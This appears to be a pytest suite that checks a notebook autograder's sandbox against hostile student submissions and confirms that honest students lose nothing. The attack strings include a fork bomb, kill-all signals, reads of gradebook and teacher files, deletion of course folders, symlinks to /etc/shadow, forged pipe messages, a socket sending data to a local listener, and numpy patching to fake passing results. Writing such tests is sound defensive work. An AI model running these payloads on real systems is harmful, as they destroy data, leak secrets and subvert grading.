"""Hostile submissions: the batch grader survives them and nobody else loses anything.

One batch holds every attacker and a few honest students; it is graded once
(module fixture) by the real command line, `--jobs 2 --timeout 2`, in a
scratch course.  The honest students are also graded alone, as the baseline.
Each attacker is the reference notebook with ONE function replaced by an
attack; it must lose exactly that function's points, and gain nothing.

The isolation level the machine gave is recorded with
``record_property("isolation", ...)`` and printed in assertion messages.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import secrets
import socket
import sqlite3
import subprocess
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from autograder import assignment, samples

from conftest import NAME, make_course, nbgrader

KIT = Path(__file__).resolve().parent.parent
TOKEN = secrets.token_hex(6)
SECRET_GRADEBOOK = f"SECRET-GRADEBOOK-{TOKEN}"
SECRET_TEACHER = f"SECRET-TEACHER-{TOKEN}"
SECRET_SOURCE = f"SECRET-SOURCE-NOTEBOOK-{TOKEN}"
SECRET_STUDENT = f"SECRET-OTHER-STUDENT-{TOKEN}"
SECRETS = (SECRET_GRADEBOOK, SECRET_TEACHER, SECRET_SOURCE, SECRET_STUDENT)
POINTS = assignment.points()
# Honest students: samples of autograder.samples, plus "zoe" (the reference) who is graded
# after every attacker (students are taken in alphabetical order).
HONEST_PLANS = {name: samples.SAMPLES[name] for name in ("alice", "carol", "erin", "frank")}
HONEST_PLANS["zoe"] = {"*": "reference"}
HONEST = tuple(HONEST_PLANS)
EXPECTED_FAILURES = {**samples.EXPECTED_FAILURES, "zoe": set()}


# ---------------------------------------------------------------------------
# running the real command line
# ---------------------------------------------------------------------------


def grader_env(scratch: Path) -> dict:
    """The environment of a grader run: venv on PATH, a private TMPDIR, no gradebook override."""
    tmp = scratch / "tmpdir"
    tmp.mkdir(parents=True, exist_ok=True)
    env = dict(os.environ)
    env["PATH"] = str(Path(sys.executable).parent) + os.pathsep + env.get("PATH", "")
    env["TMPDIR"] = str(tmp)
    env["NBGRADER_DB_URL"] = ""
    return env


def grade_cmd(submitted, out, course, *extra, jobs=2, timeout=2.0):
    return [sys.executable, "-m", "autograder", "grade", str(submitted), "--out", str(out),
            "--course", str(course), "--jobs", str(jobs), "--timeout", str(timeout),
            "--no-progress", *extra]


def run_grader(submitted, out, course, *extra, scratch, jobs=2, timeout=2.0):
    """Run a batch; return (results dict, CompletedProcess).  The batch must succeed."""
    proc = subprocess.run(grade_cmd(submitted, out, course, *extra, jobs=jobs, timeout=timeout),
                          cwd=KIT, env=grader_env(scratch), capture_output=True, text=True,
                          timeout=900)
    assert proc.returncode == 0, f"grader exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
    return json.loads((Path(out) / "results.json").read_text()), proc


def write_student(submitted, student, plan, *, extra_markdown=None):
    release = nbformat.read(str(KIT / "release" / NAME / f"{NAME}.ipynb"), as_version=4)
    nb = samples.make_notebook(release, plan)
    if extra_markdown:
        nb.cells.append(nbformat.v4.new_markdown_cell(extra_markdown))
    folder = Path(submitted) / student / NAME
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{NAME}.ipynb"
    nbformat.write(nb, str(path))
    return path


def tree_hash(root: Path) -> dict:
    """{relative path: sha256 of content (or link target)} of every entry under root."""
    state = {}
    for path in sorted(root.rglob("*")):
        rel = str(path.relative_to(root))
        if path.is_symlink():
            state[rel] = "link:" + os.readlink(path)
        elif path.is_file():
            state[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            state[rel] = "dir"
    return state


# ---------------------------------------------------------------------------
# the attacks
# ---------------------------------------------------------------------------


@dataclass
class Attack:
    student: str
    function: str
    body: str                      # body of the function (or a whole cell if whole_cell)
    says: tuple = ()               # substrings the function's message must contain
    says_any: tuple = ()           # ... at least one of these
    never_says: tuple = ()         # substrings it must not contain
    diagnosis: str | None = None   # a code that must be in the diagnosis
    whole_cell: bool = False


def cell_source(attack: Attack, ctx: dict) -> str:
    body = textwrap.dedent(attack.body).strip("\n")
    for key, value in ctx.items():
        body = body.replace("@" + key + "@", str(value))
    if attack.whole_cell:
        return body + "\n"
    return (f"# GRADED FUNCTION: {attack.function}\nimport numpy as np\n\n"
            f"def {attack.function}(*args, **kwargs):\n" + textwrap.indent(body, "    ") + "\n")


def honest_then(function: str, tail: str) -> str:
    """A cell holding the reference as _honest(), and `function` calling it, then `tail`."""
    ref = assignment.reference_sources()[function].replace(f"def {function}(", "def _honest(")
    return ref + f"\n\ndef {function}(*args):\n    result = _honest(*args)\n" + \
        textwrap.indent(textwrap.dedent(tail).strip("\n"), "    ") + "\n"


READ_ATTEMPT = """
try:
    with open("@PATH@", "rb") as fh:
        text = fh.read().decode("utf-8", "replace")
except BaseException as error:
    raise RuntimeError("DENIED " + type(error).__name__)
where = max(text.find("SECRET"), 0)
raise RuntimeError("GOT " + text[where:where + 300])
"""

# Where the case payloads are, whatever the layout of the grader's sandbox.
FIND_PAYLOADS = """
import glob, json, os, sys
def find_payloads():
    for arg in list(sys.argv) + [os.getcwd()]:
        if os.path.isfile(os.path.join(str(arg), "rnn_forward.npz")):
            return str(arg)
    for job in glob.glob("**/job.json", recursive=True):
        found = json.load(open(job)).get("payload_dir")
        if found:
            return found
    hits = glob.glob("/tmp/**/rnn_forward.npz", recursive=True)
    if hits:
        return os.path.dirname(hits[0])
    raise RuntimeError("NO-PAYLOAD-FOUND")
"""

WRITE_ATTEMPT = FIND_PAYLOADS + """
import shutil
done = []
def attempt(label, action):
    try:
        action()
        done.append(label)
    except BaseException:
        pass
def append(path, data=""):
    with open(path, "a") as fh:
        fh.write(data)
payloads = find_payloads()
attempt("course-config", lambda: append("@COURSE@/nbgrader_config.py", "# pwned\\n"))
attempt("teacher", lambda: append("@COURSE@/notebooks/rnn_step_by_step.py", "# pwned\\n"))
attempt("gradebook", lambda: open("@COURSE@/gradebook.db", "wb").write(b"pwned"))
attempt("rm-notebook", lambda: os.remove("@ALICE_NB@"))
attempt("rmtree-submitted", lambda: shutil.rmtree("@COURSE@/submitted"))
attempt("out-results", lambda: open("@OUT@/results.json", "w").write("{}"))
attempt("out-journal", lambda: open("@OUT@/.journal/forged.json", "w").write("{}"))
attempt("host-tmp", lambda: open("@HOST_PROBE@", "w").write("x"))
attempt("kit-root", lambda: open("@KIT_PROBE@", "w").write("x"))
attempt("kit-code", lambda: append("@KIT@/autograder/compare.py"))
attempt("payload", lambda: [append(p) for p in glob.glob(payloads + "/*.npz")] and None)
attempt("payload-new", lambda: open(payloads + "/planted.npz", "w").write("x"))
raise RuntimeError("WROTE " + ",".join(done) if done else "NOTHING-WRITTEN")
"""

NETWORK_ATTEMPT = """
import socket
try:
    conn = socket.create_connection(("127.0.0.1", @PORT@), timeout=1)
    conn.sendall(b"exfiltrated")
except OSError as error:
    raise RuntimeError("NO-NETWORK " + type(error).__name__)
raise RuntimeError("CONNECTED")
"""

# rnn_cell_forward answered from the oracle table of rnn_forward's payload: the
# payload holds the reference's answers to the calls a correct rnn_forward makes.
# Only the published example (seed 1, whose expected output the notebook shows)
# is among them, so at most that case can be answered.
ORACLE_PEEK = FIND_PAYLOADS + """
from autograder import child
for _, calls, _ in child.load_payload(find_payloads() + "/rnn_forward.npz"):
    for call_args, answer, _ in calls:
        if all(np.array_equal(a, b) for a, b in zip(call_args[:2], args[:2])) and \\
                all(np.array_equal(call_args[2][k], args[2][k]) for k in args[2]):
            return answer
raise RuntimeError("NO-MATCHING-CALL")
"""

# rnn_cell_forward taken from the teacher notebook the grader itself uses (the kit's).
KIT_REFERENCE_CHEAT = """
try:
    text = open("@KIT@/notebooks/rnn_step_by_step.py").read()
except BaseException as error:
    raise RuntimeError("DENIED " + type(error).__name__)
start = text.index("def rnn_cell_forward(")
end = text.index("# %%", start)
ns = dict(globals())
exec(text[start:end], ns)
return ns["rnn_cell_forward"](*args)
"""

# Write a forged protocol line to the grader's side of whatever runs us.
FORGE_REPLY = """
import os
done = []
for pid in {os.getppid(), 1}:
    for fd in range(0, 64):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as fh:
                fh.write('{"function": "lstm_backward", "status": "ok"}\\n{"done": "x"}\\n')
            done.append(f"{pid}/{fd}")
        except OSError:
            pass
raise RuntimeError("FORGED " + ",".join(done) if done else "NO-PIPE-REACHED")
"""

TIMEOUT = ("TimeoutError",)

# Result files planted as symlinks to /etc/shadow wherever a job folder is found.
PLANT_SYMLINKS = """
import glob, os
for folder in {os.getcwd()} | {os.path.dirname(os.path.abspath(j)) for j in glob.glob("**/job.json", recursive=True)}:
    for name in @NAMES@:
        try:
            os.symlink("/etc/shadow", os.path.join(folder, name))
        except OSError:
            pass
"""
CATCH_ALL_LOOP = """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
GROWING_LIST = """
hoard = []
while True:
    hoard.append(bytearray(10**7))  # touched memory: MemoryError or the time limit, first
"""
GROWING_ADDRESS_SPACE = """
hoard = []
while True:
    hoard.append(np.empty(10**8))  # untouched: only the address-space limit stops it
"""

ATTACKS = [
    # --- endless loops --------------------------------------------------------
    Attack("loop_forever", "lstm_forward", "while True:\n    pass", says=TIMEOUT),
    Attack("loop_in_dependency", "rnn_cell_backward", "while True:\n    pass", says=TIMEOUT),
    Attack("loop_catching_timer", "lstm_cell_forward", CATCH_ALL_LOOP, says=TIMEOUT),
    Attack("loop_catching_timer_in_loop_function", "rnn_backward", CATCH_ALL_LOOP, says=TIMEOUT),
    # --- memory -----------------------------------------------------------------
    Attack("memory_huge_array", "lstm_cell_forward", "return np.ones((10**6, 10**6))",
           says=("MemoryError",)),
    Attack("memory_growing_list", "rnn_cell_forward", GROWING_LIST,
           says_any=("MemoryError", "TimeoutError")),
    Attack("memory_growing_address_space", "lstm_backward", GROWING_ADDRESS_SPACE,
           says=("MemoryError",)),
    # --- processes ----------------------------------------------------------------
    Attack("fork_bomb", "rnn_forward", """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """, says=TIMEOUT),
    Attack("fork_and_return", "rnn_backward", """
        import os
        for _ in range(8):
            try:
                os.fork()
            except OSError:
                pass
        return None
        """, says=("NoneType",)),
    Attack("kill_everything", "lstm_backward", "import os, signal\nos.kill(-1, signal.SIGKILL)",
           says=("Crash",)),
    Attack("kill_parent", "rnn_cell_forward", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
           says=("Crash",)),
    Attack("forge_reply", "lstm_cell_backward", FORGE_REPLY, says=("NO-PIPE-REACHED",),
           never_says=("FORGED",)),
    # --- output floods ---------------------------------------------------------------
    Attack("print_flood", "rnn_cell_forward", 'while True:\n    print("x" * 10**6)', says=TIMEOUT),
    Attack("write_flood", "lstm_cell_backward", """
        import os
        block = b"x" * 2**20
        while True:
            os.write(1, block)
            os.write(2, block)
        """, says=TIMEOUT),
    # --- exits and crashes -----------------------------------------------------------
    Attack("os_exit", "lstm_cell_backward", "import os\nos._exit(0)", says=("Crash", "os._exit")),
    Attack("os_exit_in_loop_function", "rnn_forward", "import os\nos._exit(0)",
           says=("Crash", "os._exit")),
    Attack("sys_exit", "lstm_forward", "import sys\nsys.exit()", says=("SystemExit",)),
    Attack("raise_systemexit", "lstm_cell_forward", "raise SystemExit(3)", says=("SystemExit",)),
    Attack("segfault", "rnn_cell_backward", "import ctypes\nctypes.string_at(0)",
           says=("segmentation fault",)),
    Attack("segfault_in_loop_function", "lstm_backward", "import ctypes\nctypes.string_at(0)",
           says=("segmentation fault",)),
    # --- patching the interpreter ---------------------------------------------------
    Attack("patch_numpy", "rnn_cell_forward", """
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        np.random.seed = lambda *a, **k: None
        return np.zeros((1, 1)), np.zeros((1, 1)), ()
        """, says=("shape",)),
    Attack("patch_builtins", "lstm_cell_forward", """
        import builtins
        builtins.isinstance = lambda *a, **k: True
        builtins.len = lambda *a, **k: 0
        return "wrong"
        """, says=("object of type str",)),
    Attack("patch_type", "rnn_forward", """
        import builtins
        real = type
        builtins.type = lambda *a: np.ndarray if len(a) == 1 else real(*a)
        return "wrong"
        """, says=("object of type str",)),
    Attack("fake_numpy_module", "rnn_cell_backward", """
        import sys, types
        fake = types.ModuleType("numpy")
        fake.allclose = lambda *a, **k: True
        fake.array_equal = lambda *a, **k: True
        sys.modules["numpy"] = fake
        return {}
        """, says=("no key",)),
    # --- reading what the student must not see ----------------------------------------
    Attack("read_gradebook", "rnn_forward", READ_ATTEMPT.replace("@PATH@", "@COURSE@/gradebook.db"),
           says=("DENIED",), never_says=("GOT ",)),
    Attack("read_teacher_notebook", "lstm_forward",
           READ_ATTEMPT.replace("@PATH@", "@COURSE@/notebooks/rnn_step_by_step.py"),
           says=("DENIED",), never_says=("GOT ",)),
    Attack("read_source_notebook", "rnn_backward",
           READ_ATTEMPT.replace("@PATH@", f"@COURSE@/source/{NAME}/{NAME}.ipynb"),
           says=("DENIED",), never_says=("GOT ",)),
    Attack("read_other_student", "lstm_backward", READ_ATTEMPT.replace("@PATH@", "@ALICE_NB@"),
           says=("DENIED",), never_says=("GOT ",)),
    Attack("read_kit_teacher_notebook", "lstm_cell_backward",
           READ_ATTEMPT.replace("@PATH@", "@KIT@/notebooks/rnn_step_by_step.py"),
           says=("DENIED",), never_says=("GOT ",)),
    Attack("cheat_with_kit_reference", "rnn_cell_forward", KIT_REFERENCE_CHEAT, says=("DENIED",)),
    Attack("oracle_peek", "rnn_cell_forward", ORACLE_PEEK, says=("NO-MATCHING-CALL",)),
    # --- writing, network ----------------------------------------------------------
    Attack("write_outside", "lstm_cell_forward", WRITE_ATTEMPT, says=("NOTHING-WRITTEN",),
           never_says=("WROTE",)),
    Attack("network", "rnn_forward", NETWORK_ATTEMPT, says=("NO-NETWORK",),
           never_says=("CONNECTED",)),
    # --- odd return values ---------------------------------------------------------
    Attack("eq_always_true", "rnn_forward", """
        class Liar:
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            __hash__ = object.__hash__
            def __array__(self, *a, **k):
                return np.zeros((5, 10))
        return Liar(), Liar(), [Liar()]
        """, says=("object of type Liar",)),
    Attack("ndarray_subclass", "lstm_cell_backward", """
        class Evil(np.ndarray):
            def __eq__(self, other):
                return np.ones(np.shape(other), dtype=bool)
            def __array_finalize__(self, obj):
                pass
            def __array__(self, *a, **k):
                return np.zeros(3)
        keys = ("dxt", "da_prev", "dc_prev", "dWf", "dWi", "dWc", "dWo", "dbf", "dbi", "dbc", "dbo")
        return {k: np.zeros((2, 2)).view(Evil) for k in keys}
        """, says=("object of type Evil",)),
    Attack("metaclass_liar", "lstm_forward", """
        class Meta(type):
            def __eq__(cls, other):
                return True
            __hash__ = type.__hash__
        class Sneaky(metaclass=Meta):
            pass
        return Sneaky()
        """, says=("Sneaky",)),
    Attack("huge_array", "rnn_cell_forward", "return np.zeros(10**8), np.zeros(1), ()",
           says=("larger than",)),
    Attack("random_state", "lstm_cell_backward", honest_then("lstm_cell_backward", """
        result["dxt"] = result["dxt"] + np.random.randn(*result["dxt"].shape)
        return result
        """), whole_cell=True, diagnosis="RANDOM_STATE", says=("global random state",)),
    # --- planting files the grader reads ---------------------------------------------
    Attack("symlink_result", "lstm_cell_forward",
           PLANT_SYMLINKS.replace("@NAMES@", '["out_lstm_cell_forward.oracle.obs"]') +
           'raise RuntimeError("PLANTED")\n', says=("PLANTED",), never_says=("root:",)),
    Attack("symlink_temporary_file", "rnn_cell_backward",
           PLANT_SYMLINKS.replace("@NAMES@", '["out_rnn_cell_backward.oracle.obs", ".out_rnn_cell_backward.oracle.tmp"]') +
           'raise RuntimeError("PLANTED")\n', says_any=("could not be saved", "could not be read", "PLANTED"),
           never_says=("root:",)),
    Attack("symlink_then_hang", "rnn_backward",
           PLANT_SYMLINKS.replace("@NAMES@", '["out_rnn_backward.oracle.obs", ".out_rnn_backward.oracle.tmp",\n'
                                                '"out_rnn_backward.own.obs", ".out_rnn_backward.own.tmp"]') +
           "while True:\n    pass\n", never_says=("root:",)),
]
ATTACK_BY_NAME = {a.student: a for a in ATTACKS}
assert len(ATTACK_BY_NAME) == len(ATTACKS)


# ---------------------------------------------------------------------------
# the batch
# ---------------------------------------------------------------------------


@dataclass
class Batch:
    course: Path
    submitted: Path
    out: Path
    results: dict
    baseline: dict
    stderr: str
    before: dict            # tree_hash of the course before grading
    after: dict
    connections: list = field(default_factory=list)
    probes: dict = field(default_factory=dict)
    seconds: float = 0.0


def plant_secrets(course: Path) -> None:
    (course / "gradebook.db").write_text(f"not a real database\n{SECRET_GRADEBOOK}\n")
    with open(course / "notebooks" / f"{NAME}.py", "a") as fh:
        fh.write(f"\n# {SECRET_TEACHER}\n")
    source = course / "source" / NAME / f"{NAME}.ipynb"
    nb = nbformat.read(str(source), as_version=4)
    nb.cells.append(nbformat.v4.new_markdown_cell(SECRET_SOURCE))
    nbformat.write(nb, str(source))


def write_honest(submitted: Path) -> None:
    for student in HONEST:
        write_student(submitted, student, HONEST_PLANS[student],
                      extra_markdown=SECRET_STUDENT if student == "alice" else None)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    import time
    scratch = tmp_path_factory.mktemp("attacks")
    course = make_course(scratch / "course")
    plant_secrets(course)
    submitted = course / "submitted"
    write_honest(submitted)

    # the honest students alone: the baseline
    base_dir = scratch / "baseline-submitted"
    write_honest(base_dir)
    baseline, _ = run_grader(base_dir, scratch / "baseline-out", course, "--no-gradebook",
                             scratch=scratch)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    out = scratch / "out"
    ctx = {"COURSE": course, "OUT": out, "KIT": KIT, "PORT": listener.getsockname()[1],
           "ALICE_NB": submitted / "alice" / NAME / f"{NAME}.ipynb",
           "HOST_PROBE": f"/tmp/attack-probe-{TOKEN}", "KIT_PROBE": KIT / f".attack-probe-{TOKEN}"}
    for attack in ATTACKS:
        write_student(submitted, attack.student, {"*": "reference",
                                                  attack.function: cell_source(attack, ctx)})
    before = tree_hash(course)
    started = time.monotonic()
    try:
        results, proc = run_grader(submitted, out, course, "--no-gradebook", scratch=scratch)
    finally:
        listener.setblocking(False)
        connections = []
        while True:
            try:
                conn, _ = listener.accept()
            except BlockingIOError:
                break
            connections.append(conn.recv(100))
            conn.close()
        listener.close()
    seconds = time.monotonic() - started
    probes = {}
    for key in ("HOST_PROBE", "KIT_PROBE"):
        path = Path(ctx[key])
        probes[key] = path.exists()
        if path.exists():
            path.unlink()  # the sandbox failed; do not leave the file behind
    return Batch(course, submitted, out, results, baseline, proc.stderr, before, tree_hash(course),
                 connections, probes, seconds)


def iso_of(batch) -> str:
    return batch.results["isolation"]


# ---------------------------------------------------------------------------
# the tests
# ---------------------------------------------------------------------------


def test_isolation_level_is_recorded(batch, record_property):
    """Which isolation did the batch run under (bubblewrap expected on the CI machine)?"""
    record_property("isolation", iso_of(batch))
    record_property("batch_seconds", round(batch.seconds, 1))
    assert batch.results["isolation"] == batch.baseline["isolation"]
    assert "bubblewrap" in iso_of(batch), f"weaker sandbox than expected: {iso_of(batch)}"
    assert f"isolation: {iso_of(batch)}" in batch.stderr


def test_every_submission_is_graded(batch):
    """Is every attacker and every honest student in results.json, none with a whole-file error?"""
    want = set(HONEST) | set(ATTACK_BY_NAME)
    assert set(batch.results["students"]) == want
    for student, entry in batch.results["students"].items():
        assert entry["error"] is None, (student, entry["error"])
        assert set(entry["functions"]) == set(assignment.FUNCTIONS), student


def test_honest_students_are_unaffected(batch, record_property):
    """Does each honest student get, in the mixed batch, exactly their baseline result
    (scores, passed, diagnosis and message of every function)?"""
    record_property("isolation", iso_of(batch))
    lost = sum(batch.baseline["students"][s]["total"] - batch.results["students"][s]["total"]
               for s in HONEST)
    changed = [s for s in HONEST if batch.results["students"][s] != batch.baseline["students"][s]]
    record_property("corpus", {"kind": "attacks", "tried": len(ATTACKS), "honest": len(HONEST),
                               "points_lost": lost, "results_changed": len(changed)})
    for student in HONEST:
        got, want = batch.results["students"][student], batch.baseline["students"][student]
        assert got == want, f"{student} changed next to the attackers ({iso_of(batch)})"
    assert lost == 0.0


def test_honest_baseline_is_what_the_samples_promise(batch):
    """Does the baseline itself fail exactly the sample students' known mistakes?"""
    for student in HONEST:
        entry = batch.baseline["students"][student]
        failed = {f for f, r in entry["functions"].items() if not r["passed"]}
        assert failed == EXPECTED_FAILURES[student], student


def _context(batch, attack):
    return f"[{attack.student} -> {attack.function}; isolation: {iso_of(batch)}]"


@pytest.mark.parametrize("name", list(ATTACK_BY_NAME))
def test_attacked_function_fails_with_the_stated_outcome(batch, name, record_property):
    """Does the attacked function score 0, with the outcome the attack calls for (timeout,
    memory, crash, denied, ...) named in the student's message?"""
    record_property("isolation", iso_of(batch))
    attack = ATTACK_BY_NAME[name]
    target = batch.results["students"][attack.student]["functions"][attack.function]
    context = _context(batch, attack)
    assert target["passed"] is False and target["score"] == 0.0, \
        f"the attack gained points {context}: {target}"
    for text in attack.says:
        assert text.lower() in target["message"].lower(), f"{context} message: {target['message']!r}"
    for text in attack.never_says:
        assert text not in target["message"], f"{context} message: {target['message']!r}"
    if attack.says_any:
        assert any(t.lower() in target["message"].lower() for t in attack.says_any), \
            f"{context} message: {target['message']!r}"
    if attack.diagnosis:
        assert attack.diagnosis in target["diagnosis"], f"{context} {target}"


@pytest.mark.parametrize("name", list(ATTACK_BY_NAME))
def test_attacker_keeps_every_other_function(batch, name, record_property):
    """Does the attacker keep full marks on the 7 functions it did not attack?"""
    record_property("isolation", iso_of(batch))
    attack = ATTACK_BY_NAME[name]
    entry = batch.results["students"][attack.student]
    lost = {f: r for f, r in entry["functions"].items()
            if f != attack.function and not (r["passed"] and r["score"] == POINTS[f])}
    assert not lost, f"{_context(batch, attack)} the attack cost other functions too: " + \
        json.dumps({f: r["message"][:300] for f, r in lost.items()}, indent=1)
    assert entry["total"] >= sum(POINTS.values()) - POINTS[attack.function]


def _output_files(out: Path):
    for path in sorted(out.rglob("*")):
        if path.is_file() and path.suffix in (".json", ".csv", ".html", ".txt"):
            yield path


def test_secrets_never_reach_the_outputs(batch):
    """Do the planted secrets (course gradebook, teacher notebook, source notebook, another
    student's notebook) and /etc/shadow stay out of every output file?"""
    shadow = Path("/etc/shadow").read_text().splitlines()[0] if Path("/etc/shadow").exists() else None
    for path in _output_files(batch.out):
        text = path.read_text(errors="replace")
        for secret in SECRETS:
            assert secret not in text, f"{secret} leaked into {path}"
        assert shadow is None or shadow not in text, f"/etc/shadow leaked into {path}"


def test_kit_reference_never_reaches_the_outputs(batch):
    """Does no output file show the teacher notebook of the kit the grader runs from?"""
    header = "#     text_representation:"  # the jupytext header of notebooks/rnn_step_by_step.py
    assert header in (KIT / "notebooks" / f"{NAME}.py").read_text()
    for path in _output_files(batch.out):
        assert header not in path.read_text(errors="replace"), f"the kit's teacher notebook leaked into {path}"


def test_course_directory_is_unchanged(batch):
    """Is every file of the scratch course (config, notebooks, gradebook, submissions)
    byte-identical after the attackers ran?"""
    changed = {k for k in set(batch.before) | set(batch.after) if batch.before.get(k) != batch.after.get(k)}
    assert not changed, f"changed by the batch: {sorted(changed)[:20]} ({iso_of(batch)})"


def test_nothing_written_on_the_host(batch):
    """Did no attacker create a file in the host's /tmp or in the kit root, or leave files in the
    output directory that the grader did not write?"""
    assert batch.probes == {"HOST_PROBE": False, "KIT_PROBE": False}, iso_of(batch)
    assert not (batch.out / ".journal" / "forged.json").exists()
    json.loads((batch.out / "results.json").read_text())  # still the grader's, valid JSON


def test_no_network_connection_arrives(batch):
    """Did the listener on 127.0.0.1 receive no connection from the network attacker?"""
    assert batch.connections == [], f"{batch.connections} ({iso_of(batch)})"


def test_grades_csv_matches_results(batch):
    """Does grades.csv carry every student with the total of results.json?"""
    with open(batch.out / "grades.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(batch.results["students"])
    assert len(list((batch.out / "feedback").glob("*.html"))) == len(batch.results["students"])


# ---------------------------------------------------------------------------
# the gradebook survives the attackers
# ---------------------------------------------------------------------------

# the attackers who go after files (the gradebook above all) or the grading processes
GRADEBOOK_ATTACKERS = ("write_outside", "kill_everything", "symlink_result", "read_gradebook")


@pytest.fixture(scope="module")
def gradebook_batch(tmp_path_factory):
    scratch = tmp_path_factory.mktemp("attacks-gradebook")
    course = make_course(scratch / "course")
    nbgrader(course, "generate_assignment", NAME, "--force")
    submitted = course / "submitted"
    for student in ("alice", "carol", "frank"):
        write_student(submitted, student, samples.SAMPLES[student])
    out = scratch / "out"
    ctx = {"COURSE": course, "OUT": out, "KIT": KIT, "PORT": 9,
           "ALICE_NB": submitted / "alice" / NAME / f"{NAME}.ipynb",
           "HOST_PROBE": f"/tmp/attack-probe-gb-{TOKEN}", "KIT_PROBE": KIT / f".attack-probe-gb-{TOKEN}"}
    for name in GRADEBOOK_ATTACKERS:
        attack = ATTACK_BY_NAME[name]
        write_student(submitted, name, {"*": "reference", attack.function: cell_source(attack, ctx)})
    db = course / "gradebook.db"
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    results, proc = run_grader(submitted, out, course, scratch=scratch)
    for key in ("HOST_PROBE", "KIT_PROBE"):
        assert not Path(ctx[key]).exists()
    return course, results, before


def test_gradebook_is_intact_and_right(gradebook_batch):
    """After a batch with attackers, written WITH the gradebook: is the SQLite file sound, and do
    the Gradebook API and the real `nbgrader export` show every student's right scores?"""
    from nbgrader.api import Gradebook
    course, results, before = gradebook_batch
    db = course / "gradebook.db"
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert hashlib.sha256(db.read_bytes()).hexdigest() != before  # the grader did write it
    with Gradebook(f"sqlite:///{db}") as gb:
        for student, entry in results["students"].items():
            for function in assignment.FUNCTIONS:
                grade = gb.find_grade(assignment.test_cell_id(function), NAME, NAME, student)
                assert grade.score == entry["functions"][function]["score"], (student, function)
    for student in ("alice", "carol", "frank"):
        entry = results["students"][student]
        failed = {f for f, r in entry["functions"].items() if not r["passed"]}
        assert failed == samples.EXPECTED_FAILURES[student], student
    for name in GRADEBOOK_ATTACKERS:  # (what else they keep is the business of the tests above)
        attack = ATTACK_BY_NAME[name]
        assert results["students"][name]["functions"][attack.function]["score"] == 0.0, name

    env = grader_env(course.parent)
    env["JUPYTER_CONFIG_DIR"] = str(course / ".jupyter")
    env["HOME"] = str(course)
    proc = subprocess.run([sys.executable, "-m", "nbgrader", "export", "--to", "export.csv"],
                          cwd=course, env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    with open(course / "export.csv", newline="") as fh:
        rows = {row["student_id"]: row for row in csv.DictReader(fh)}
    for student, entry in results["students"].items():
        assert float(rows[student]["score"]) == pytest.approx(entry["total"]), student
        assert float(rows[student]["max_score"]) == pytest.approx(entry["max"]), student
